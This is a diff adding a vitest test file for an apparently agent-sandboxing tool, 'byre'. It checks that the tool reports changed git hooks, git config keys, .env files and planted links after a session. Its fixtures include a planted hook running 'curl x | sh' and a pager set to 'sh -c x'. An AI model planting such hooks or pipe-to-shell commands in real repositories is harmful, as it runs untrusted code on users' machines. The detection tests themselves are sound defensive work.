@@ -1,0 +1,180 @@
+import { execFileSync } from 'node:child_process';
+import { mkdirSync, symlinkSync, writeFileSync } from 'node:fs';
+import path from 'node:path';
+
+import { describe, expect, it } from 'vitest';
+import { useTempDir } from '../../test/support/temp.js';
+import { exitReport, exitReportLines } from './report.js';
+import { ENV_FILE_LIMIT, HOOK_ENTRY_LIMIT, takeSnapshot, type SnapshotScope } from './snapshot.js';
+import { snapshotStore } from './store-snapshot.js';
+import { selfEditReportLines } from './store-report.js';
+
+let dir: string;
+useTempDir('exit-report', (tmp) => {
+  dir = tmp;
+});
+
+function put(rel: string, content: string): string {
+  const p = path.join(dir, rel);
+  mkdirSync(path.dirname(p), { recursive: true });
+  writeFileSync(p, content);
+  return p;
+}
+
+function repo(): SnapshotScope {
+  const wt = path.join(dir, 'app');
+  put('app/.git/config', '[core]\n\tbare = false\n');
+  put('app/.git/hooks/pre-commit.sample', '#!/bin/sh\n');
+  put('app/.env', 'A=1\n');
+  put('app/src/main.c', '');
+  return { worktreeDir: wt, commonGitDir: path.join(wt, '.git'), roots: [wt] };
+}
+
+const diff = (scope: SnapshotScope, change: () => void): string[] => {
+  const before = takeSnapshot(scope);
+  change();
+  return exitReportLines(
+    exitReport({
+      before,
+      after: takeSnapshot(scope, [before.configs]),
+      checkedOutThisSession: false,
+    }),
+  );
+};
+
+describe('takeSnapshot and the exit report, on a real tree', () => {
+  it('an untouched tree reports nothing', () => {
+    expect(diff(repo(), () => undefined)).toEqual([]);
+  });
+
+  it('a hook written and core.hooksPath set are reported; samples and ordinary keys are not', () => {
+    const scope = repo();
+    const lines = diff(scope, () => {
+      put('app/.git/hooks/pre-commit', '#!/bin/sh\ncurl x | sh\n');
+      put('app/.git/hooks/post-merge.sample', 'changed sample');
+      put(
+        'app/.git/config',
+        '[core]\n\tbare = false\n\thooksPath = .githooks\n[user]\n\tname = x\n',
+      );
+      put('app/.githooks/pre-push', '#!/bin/sh\n');
+    });
+    expect(lines).toContain('  git config .git/config: core.hookspath = ".githooks" (added)');
+    expect(lines).toContain('  hook added: .git/hooks/pre-commit');
+    expect(lines).toContain('  hook added: .githooks/pre-push');
+    expect(lines.join('\n')).not.toMatch(/sample|user\.name/);
+  });
+
+  it('.env files anywhere in the tree, but not under .git or node_modules', () => {
+    const scope = repo();
+    const lines = diff(scope, () => {
+      put('app/.env', 'A=2\n');
+      put('app/web/api/.envrc', 'export X=1\n');
+      put('app/node_modules/x/.env', 'B=1\n');
+      put('app/.git/.env', 'B=1\n');
+    });
+    expect(lines.filter((l) => l.startsWith('  '))).toEqual([
+      '  .env file changed: .env',
+      '  .env file added: web/api/.envrc',
+    ]);
+  });
+
+  it('follows an include inside the project, not one outside it', () => {
+    const scope = repo();
+    put('outside.cfg', '[core]\n\tpager = outside\n');
+    put('app/.git/config', `[include]\n\tpath = ../extra.cfg\n\tpath = ${dir}/outside.cfg\n`);
+    put('app/extra.cfg', '[core]\n\tpager = less\n');
+    const lines = diff(scope, () => {
+      put('app/extra.cfg', '[core]\n\tpager = sh -c x\n');
+      put('outside.cfg', '[core]\n\tpager = changed\n');
+    });
+    expect(lines).toContain('  git config extra.cfg: core.pager = "sh -c x" (added)');
+    expect(lines.join('\n')).not.toContain('"changed"');
+  });
+
+  it('reads every worktree’s config.worktree', () => {
+    const scope = repo();
+    mkdirSync(path.join(dir, 'app/.git/worktrees/feat'), { recursive: true });
+    const lines = diff(scope, () => {
+      put('app/.git/worktrees/feat/config.worktree', '[core]\n\tfsmonitor = ./x\n');
+    });
+    expect(lines).toContain(
+      '  git config .git/worktrees/feat/config.worktree: core.fsmonitor = "./x" (added)',
+    );
+  });
+
+  it('records planted links and FIFOs by kind, never following or opening them', () => {
+    const scope = repo();
+    put('secret', 'TOKEN=1\n');
+    const lines = diff(scope, () => {
+      symlinkSync(path.join(dir, 'secret'), path.join(dir, 'app/.env.local'));
+      execFileSync('mkfifo', [path.join(dir, 'app/.git/hooks/pre-commit')]);
+      symlinkSync(path.join(dir, 'secret'), path.join(dir, 'app/.git/config.worktree'));
+    });
+    expect(lines).toContain(`  .env file added: .env.local (a symbolic link to ${dir}/secret)`);
+    expect(lines).toContain('  hook added: .git/hooks/pre-commit (a FIFO)');
+    expect(lines.join('\n')).toContain('could not check: git config .git/config.worktree');
+  });
+
+  it('a config byre cannot parse is named, not guessed at', () => {
+    const scope = repo();
+    const lines = diff(scope, () => put('app/.git/config', '[core\n'));
+    expect(lines).toEqual([
+      'notice: could not check: git config .git/config, changed into something byre cannot read (line 1: a malformed section header)',
+    ]);
+  });
+
+  it(`bounds hooks at ${HOOK_ENTRY_LIMIT} and .env files at ${ENV_FILE_LIMIT}, saying so`, () => {
+    const scope = repo();
+    for (let i = 0; i <= HOOK_ENTRY_LIMIT; i++) put(`app/.git/hooks/h${i}`, '');
+    for (let i = 0; i <= ENV_FILE_LIMIT; i++) put(`app/d${i}/.env`, '');
+    const snap = takeSnapshot(scope);
+    expect(snap.hooks.complete).toBe(false);
+    expect(snap.envFiles.complete).toBe(false);
+    expect(snap.unchecked).toEqual([
+      `hooks beyond the first ${HOOK_ENTRY_LIMIT}`,
+      `.env files beyond the first ${ENV_FILE_LIMIT}`,
+    ]);
+  });
+
+  it('stops at the time budget and says what it did not check', () => {
+    const scope = repo();
+    let t = 0;
+    const snap = takeSnapshot({ ...scope, deadline: 1, now: () => t++ });
+    expect(snap.unchecked.join('\n')).toMatch(/budget ran out/);
+  });
+
+  it('outside git, only .env files', () => {
+    put('plain/.env', 'A=1\n');
+    const scope = { worktreeDir: path.join(dir, 'plain'), commonGitDir: null, roots: [] };
+    expect(diff(scope, () => put('plain/.env', 'A=2\n'))).toContain('  .env file changed: .env');
+  });
+});
+
+describe('snapshotStore', () => {
+  it('reads the store without following links; byre’s working entries only by kind', () => {
+    const store = path.join(dir, 'store');
+    put('store/byre.config', 'agent = "claude"\n');
+    put('store/path', '/src/app\n');
+    put('store/launches/abc.toml', 'record = 1\n');
+    put('store/context/Dockerfile.generated', 'FROM x\n');
+    const before = snapshotStore(store);
+    expect(Object.keys(before.files).sort()).toEqual([
+      'byre.config',
+      'context',
+      'launches',
+      'path',
+    ]);
+    put('store/launches/def.toml', 'record = 1\n');
+    put('store/byre.config', 'agent = "claude"\nrun_args = ["-e", "X=1"]\n');
+    put('store/notes/new.txt', 'hi');
+    const lines = selfEditReportLines(before, snapshotStore(store));
+    expect(lines).toEqual([
+      'self-edit: byre.config changed (it applies at the next develop):',
+      '  @@ -1,1 +1,2 @@',
+      '   agent = "claude"',
+      '  +run_args = ["-e", "X=1"]',
+      'self-edit: other files in the project’s store:',
+      '  added: notes/new.txt',
+    ]);
+  });
+});
